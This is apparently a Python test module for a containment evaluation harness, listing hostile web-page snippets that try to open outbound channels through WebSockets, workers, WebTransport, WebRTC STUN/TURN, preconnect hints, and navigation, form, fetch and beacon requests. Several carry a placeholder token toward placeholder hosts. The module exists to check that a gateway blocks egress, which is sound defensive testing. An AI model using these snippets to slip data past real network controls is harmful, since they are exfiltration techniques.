"""Hostile pages that open channels: WebSockets, WebTransport, WebRTC, and connections made ahead of need."""

from harness.evals.containment.templates import Row, script

_NOBODY = "the gateway carries no UDP to anyone, so that there is no allowed counterpart"


def _peer(urls: str) -> str:
    return script(
        f"let p=new RTCPeerConnection({{iceServers:[{{urls:'{urls}',username:'$TOKEN',credential:'c'}}],"
        "iceCandidatePoolSize:1});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))"
    )


ROWS: tuple[Row, ...] = (
    Row("websocket", "W01", "a WebSocket", script("new WebSocket('$SOCKET/s')")),
    Row("websocket in worker", "W05", "a WebSocket of a worker", script("new Worker('$FILES/w.js')"),
        files=(("w.js", "text/javascript", "new WebSocket('$SOCKET/s')"),)),
    Row("websocket in shared worker", "W04", "a WebSocket of a shared worker",
        script("new SharedWorker('$FILES/w.js')"),
        files=(("w.js", "text/javascript", "new WebSocket('$SOCKET/s')"),)),
    Row("websocket in frame", "W01", "a WebSocket of a sandboxed frame",
        "<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket('$SOCKET/s')</script>\"></iframe>"),
    Row("websocket stream", "W03", "a WebSocketStream", script("new WebSocketStream('$SOCKET/s').opened")),
    Row("websocket on leaving", "W01", "a WebSocket when the page is left",
        script("addEventListener('pagehide',()=>new WebSocket('$SOCKET/s'))"), leave=True),
    Row("webtransport", "W06", "WebTransport", script("new WebTransport('https://$NAME:$LENT/x').ready"),
        secure=True, lent=True, uncounted=_NOBODY),
    Row("stun", "W09", "STUN to a name", _peer("stun:$NAME:$LENT"), lent=True, uncounted=_NOBODY),
    Row("stun address", "W10", "STUN to an address", _peer("stun:127.0.0.1:$LENT"), lent=True,
        uncounted=_NOBODY),
    Row("turn tcp", "W11", "TURN over TCP", _peer("turn:$NAME:$LENT?transport=tcp"), lent=True,
        uncounted="the gateway carries no TURN to anyone, so that there is no allowed counterpart"),
    Row("turns", "W12", "TURN over TLS", _peer("turns:$NAME:$LENT?transport=tcp"), lent=True,
        uncounted="the gateway carries no TURN to anyone, so that there is no allowed counterpart"),
    Row("preconnect", "R30", "a preconnect", '<link rel=preconnect href="$BASE/">'),
    Row("preconnect header", "R30", "a preconnect header", "x", headers=(("link", "<$BASE/>; rel=preconnect"),)),
    Row("dns prefetch", "R31", "a DNS prefetch", '<link rel=dns-prefetch href="$BASE/">'),
)  # fmt: skip
"""One row a page: each is played over http and over https, where it works over both."""

VECTORS: tuple[Row, ...] = (
    Row("location", "N02", "a navigation", script("location.href='$BASE/n'")),
    Row("redirect", "N12", "a redirect", script("location='/redirect?to=$BASE/n'")),
    Row("frame", "N17", "a frame", '<iframe src="$BASE/n"></iframe>'),
    Row("form", "N20", "a form by POST",
        '<form id=f method=post action="$BASE/n"><input name=s value=$TOKEN></form>' + script("f.submit()")),
    Row("image", "R01", "an image", '<img src="$BASE/i.png">'),
    Row("script", "R07", "a script", '<script src="$BASE/s.js"></script>'),
    Row("fetch", "R13", "a fetch", script("fetch('$BASE/f',{mode:'no-cors'})")),
    Row("beacon", "R17", "a beacon", script("navigator.sendBeacon('$BASE/b','secret')")),
    Row("worker", "R38", "a fetch from a worker", script("new Worker('$FILES/w.js')"),
        files=(("w.js", "text/javascript", "fetch('$BASE/f',{mode:'no-cors'})"),)),
    Row("websocket", "W01", "a WebSocket", script("new WebSocket('$SOCKET/s')")),
)  # fmt: skip
"""The pages that are played against every kind of address."""
